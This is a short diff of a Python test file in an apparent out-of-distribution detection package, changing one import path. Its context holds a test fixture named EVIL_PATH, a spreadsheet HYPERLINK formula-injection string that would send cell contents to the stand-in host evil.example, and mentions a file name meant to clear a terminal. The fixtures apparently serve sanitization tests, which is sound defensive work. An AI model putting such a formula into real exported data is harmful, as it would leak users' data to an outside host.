@@ -22,7 +22,7 @@ from fmood.calibration.detector import OODDetector
 from fmood.cli import score as score_command
 from fmood.cli.main import main
 from fmood.store import FeatureStore
-from fmood.store.atomic import OUTPUTS_LEDGER
+from fmood.utils.atomic import OUTPUTS_LEDGER
 
 EVIL_PATH = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 #: A file name that would clear the terminal if printed raw.
